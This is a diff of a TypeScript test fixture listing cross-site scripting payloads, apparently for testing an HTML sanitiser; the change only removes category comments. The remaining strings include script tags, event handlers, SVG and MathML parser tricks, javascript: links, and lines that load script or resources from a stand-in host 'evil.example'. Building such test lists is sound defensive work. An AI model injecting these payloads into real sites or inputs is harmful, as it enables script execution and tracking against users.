@@ -97,7 +97,6 @@ export const xssPayloads: readonly string[] = [
   "${alert(1)}",
   "javascript:alert(1)",
   '{"__proto__":{"onclick":"alert(1)"}}',
-  // elements that load or run something
   "<script>window.__xss=1</script>",
   "<script type=module>window.__xss=1</script>",
   "<script async src=//evil.example/a.js></script>",
@@ -138,7 +137,6 @@ export const xssPayloads: readonly string[] = [
   "<meta http-equiv=refresh content='0;url=//evil.example'>",
   '<meta http-equiv=Content-Security-Policy content="script-src *">',
   "<base href=//evil.example/>",
-  // style
   "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}*{font-family:x}</style>",
   "<p style=\"background:url('//evil.example/bg.png')\">x</p>",
   '<b style="background-image:url(//evil.example/bg.png)">x</b>',
@@ -147,7 +145,6 @@ export const xssPayloads: readonly string[] = [
   "<mark style='animation:x 1s' onanimationstart=window.__xss=1>x</mark>",
   "<style>@keyframes x{}</style><b style='animation-name:x' onanimationend=window.__xss=1>x</b>",
   "<code style='transition:all 1s' ontransitionend=window.__xss=1>x</code>",
-  // event handlers on allowed elements
   "<b onfocus=window.__xss=1 tabindex=0 autofocus>x</b>",
   "<i contenteditable onbeforeinput=window.__xss=1 oninput=window.__xss=1>x</i>",
   "<u onpaste=window.__xss=1 oncopy=window.__xss=1 oncut=window.__xss=1>x</u>",
@@ -163,7 +160,6 @@ export const xssPayloads: readonly string[] = [
   "<b a='<i onclick=window.__xss=1>'>x</b>",
   "<b><b/ onclick=window.__xss=1>x</b></b>",
   "<br/onmouseover=window.__xss=1/>",
-  // SVG and MathML
   "<svg><set attributeName=onmouseover to=window.__xss=1></svg>",
   "<svg><animate attributeName=href values=javascript:window.__xss=1 /><a id=a><text y=20>x</text></a></svg>",
   "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.__xss=1</script></svg>#x'></svg>",
@@ -174,7 +170,6 @@ export const xssPayloads: readonly string[] = [
   "<math href=javascript:window.__xss=1>x</math>",
   "<math><annotation-xml encoding=text/html><script>window.__xss=1</script></annotation-xml></math>",
   "<math><mtext><option><fake><option></option><mglyph><style></math><img src=x onerror=window.__xss=1>",
-  // links
   "<a href='jav\nascript:window.__xss=1'>x</a>",
   "<a href='java\rscript:window.__xss=1'>x</a>",
   "<a href='\u00a0javascript:window.__xss=1'>x</a>",
@@ -194,7 +189,6 @@ export const xssPayloads: readonly string[] = [
   "<area href=javascript:window.__xss=1 shape=default>",
   "<form id=x></form><button form=x formaction=javascript:window.__xss=1>x</button>",
   "<isindex action=javascript:window.__xss=1 type=submit>",
-  // inputs that parsers disagree about
   "<p<script>window.__xss=1</script>",
   "<b\u0000><script>window.__xss=1</script>",
   "<</p>img src=x onerror=window.__xss=1>",
@@ -214,7 +208,6 @@ export const xssPayloads: readonly string[] = [
   "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
   "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
   "\u2028<script>window.__xss=1</script>\u2029",
-  // Markdown that becomes HTML
   "[x](javascript:window.__xss=1)",
   "![x](javascript:window.__xss=1)",
   "![x](https://evil.example/pixel.png)",
